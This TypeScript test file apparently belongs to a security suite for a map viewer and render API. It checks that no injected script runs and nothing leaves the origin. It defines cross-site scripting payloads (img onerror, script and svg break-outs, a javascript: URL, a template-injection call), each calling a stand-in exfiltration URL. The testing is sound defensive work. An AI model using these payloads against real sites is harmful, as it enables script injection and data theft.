import { openSqliteStore } from '../../../src/adapters/sqlite/index.ts';
import { openBrowser, whyNoBrowser } from '../../browser/open-browser.ts';
import type { WatchedPage } from '../../browser/watched-page.ts';
import { openPage } from '../../browser/watched-page.ts';
import { requireFreshWebBuild } from '../../browser/web-build.ts';
import { DEMO_SCENE } from '../../support/demo-data.ts';
import type { AttackContext, Family, Sight } from '../attack.ts';
import { judge, skip } from '../attack.ts';
import { ask } from '../polite.ts';
import type { Target } from '../target.ts';

/** A script that would be seen: it sets a mark and calls another origin. */
const MARK = 'window.attacked=1;fetch("http://127.0.0.1:9/stolen")';
const IMAGE = `<img src=x onerror='${MARK}'>`;
const HOSTILE = [
  IMAGE,
  `"><script>${MARK}</script>`,
  `'"><svg onload='${MARK}'>`,
  `javascript:${MARK}`,
  '{{constructor.constructor("window.attacked=1")()}}',
] as const;

/** Text that wants to be a script. */
export const browserScripts: Family = {
  name: 'browser scripts',
  attacks: [
    {
      name: 'scripts in the catalog',
      severity: 'high',
      does: 'scene ids, product ids, fields and addresses of the viewer contain HTML and scripts; Chromium opens the map and /docs',
      limit: 'data is text; the content policy allows no inline script; nothing leaves the origin',
      run: runViewer,
    },
    {
      name: 'answers opened as pages',
      severity: 'medium',
      does: 'areas, colormaps and errors that contain HTML are opened in Chromium as pages',
      limit: 'Content-Type and nosniff: no answer with data is HTML',
      run: runAnswers,
    },
  ],
};

/** Puts hostile records straight into the catalog: worse than anything that ingest lets through. */
async function addHostileScenes(dataDir: string): Promise<void> {
  const store = openSqliteStore(dataDir);
  const scene = await store.scenes.findByViewId(DEMO_SCENE.viewId);
  if (scene === null) throw new Error('the demo scene is not there');
  const { version: _, ...record } = scene;
  for (const [i, text] of HOSTILE.entries()) {
    const fields = Object.fromEntries(
      Object.entries(record.fields).map(([name, value]) => [name, typeof value === 'string' ? text : value]),
    );
    await store.scenes.put({
      ...record,
      viewId: `S2L2A/10/U/EU/2026/6/${22 + i}/1`,
      sceneId: `${text} ${i}`,
      productId: text,
      fields,
      provenance: text,
    });
  }
  await store.close();
}

async function openAttacked({
  start,
  defer,
}: AttackContext): Promise<{ readonly server: Target; visit(path: string): Promise<WatchedPage> }> {
  const why = whyNoBrowser();
  if (why !== false) skip(why);
  requireFreshWebBuild();
  const server = await start({ prepare: addHostileScenes });
  const { browser, close } = await openBrowser();
  defer(close);
  return {
    server,
    async visit(path) {
      const opened = await openPage(browser);
      opened.page.on('dialog', (dialog) => {
        opened.problems.push(`dialog: ${dialog.message()}`);
        void dialog.dismiss();
      });
      await opened.page.goto(server.url + path, { waitUntil: 'load' });
      return opened;
    },
  };
}

/** What a page did that it should not have done. */
async function findMischief(
  { page, problems, urls }: WatchedPage,
  origin: string,
): Promise<readonly string[]> {
  const hasRun = (await page.evaluate('window.attacked')) !== undefined;
  const strangers = urls.filter((url) => !url.startsWith(`${origin}/`) && !/^(data|blob):/.test(url));
  // Markup that the policy stopped is markup that should not have been there.
  const violations = problems.filter((text) => /Content Security Policy|dialog:/.test(text));
  return [...(hasRun ? ['a script ran'] : []), ...strangers.map((url) => `asked for ${url}`), ...violations];
}

async function runViewer(context: AttackContext): Promise<Sight> {
  const { server, visit } = await openAttacked(context);
  const key = context.keys.marked;
  const mischief: string[] = [];
  let shown = 0;
  {
    await using opened = await visit(`/?api_key=${key}`);
    await opened.page.locator('.scene').first().waitFor();
    // As text it is there to be read.
    const text = await opened.page.locator('body').innerText();
    shown = HOSTILE.filter((hostile) => text.includes(hostile.slice(0, 20))).length;
    for (const button of await opened.page.locator('.scene').all()) await button.click();
    await opened.page.waitForTimeout(500);
    mischief.push(...(await findMischief(opened, server.url)));
  }
  const paths = HOSTILE.slice(0, 3).flatMap((text) => {
    const encoded = encodeURIComponent(text);
    return [
      `/?api_key=${encoded}`,
      `/?api_key=${key}#scene=${encoded}&dataset=${encoded}&bands=${encoded}&map=${encoded}`,
      `/docs?x=${encoded}#${encoded}`,
    ];
  });
  for (const path of paths) {
    await using opened = await visit(path);
    await opened.page.waitForTimeout(200);
    mischief.push(...(await findMischief(opened, server.url)));
  }
  const saw = `${paths.length + 1} pages, ${shown} hostile names shown as text${mischief.length > 0 ? `; ${[...new Set(mischief)].slice(0, 5).join('; ')}` : '; no script, no violation, no other origin'}`;
  return judge(saw, {
    'no script runs and nothing leaves the origin': mischief.length === 0,
    'names are shown': shown > 0,
  });
}

async function runAnswers(context: AttackContext): Promise<Sight> {
  const { server, visit } = await openAttacked(context);
  const key = context.keys.marked;
  const post = async (path: string, body: unknown): Promise<Record<string, string>> => {
    const answer = await ask(server, path, { method: 'POST', key, body: JSON.stringify(body) });
    return JSON.parse(answer.body.toString()) as Record<string, string>;
  };
  const ring = [
    [0, 0],
    [1, 0],
    [1, 1],
    [0, 0],
  ];
  const area = await post('/api/render/cropper', {
    type: 'Feature',
    properties: { title: IMAGE, [IMAGE]: HOSTILE },
    geometry: { type: 'Polygon', coordinates: [ring] },
  });
  const colormap = await post('/api/render/colormap', {
    colors: ['#000000', '#ffffff'],
    type: 'discrete',
    labels: [IMAGE, HOSTILE[1]],
  });
  const script = encodeURIComponent(IMAGE);
  const paths = [
    `/api/render/cropper/${area.cropper_ref}?api_key=${key}`,
    `/api/render/colormap/${colormap.id}?api_key=${key}`,
    `/api/render/legend/${colormap.id}?api_key=${key}`,
    `/api/render/legend/${DEMO_SCENE.viewId}/B04/14/2621/5680?COLORMAP=${colormap.id}&api_key=${key}`,
    `/api/render/${script}?api_key=${key}`,
    `/api/render/S2L2A/parse_vb/${script}?api_key=${key}`,
    `/api/render/${DEMO_SCENE.viewId}/${script}/14/2621/5680?api_key=${key}`,
    `/${script}`,
    `/assets/${script}`,
    `/openapi.json?${script}`,
  ];
  const [mischief, types]: [string[], Set<string>] = [[], new Set()];
  for (const path of paths) {
    const { headers } = await ask(server, path, {});
    types.add(String(headers['content-type']).split(';')[0] as string);
    if (headers['x-content-type-options'] !== 'nosniff')
      mischief.push(`${path.slice(0, 30)} without nosniff`);
    if (/html|svg|xml/.test(String(headers['content-type'])))
      mischief.push(`${path.slice(0, 30)} is ${headers['content-type']}`);
    await using opened = await visit(path);
    mischief.push(...(await findMischief(opened, server.url)).filter((text) => !/favicon/.test(text)));
  }
  const saw = `${paths.length} answers: ${[...types].join(', ')}${mischief.length > 0 ? `; ${[...new Set(mischief)].slice(0, 5).join('; ')}` : ''}`;
  return judge(saw, {
    'hostile text is stored as text': area.cropper_ref !== undefined && colormap.id !== undefined,
    'no page, no script': mischief.length === 0,
  });
}
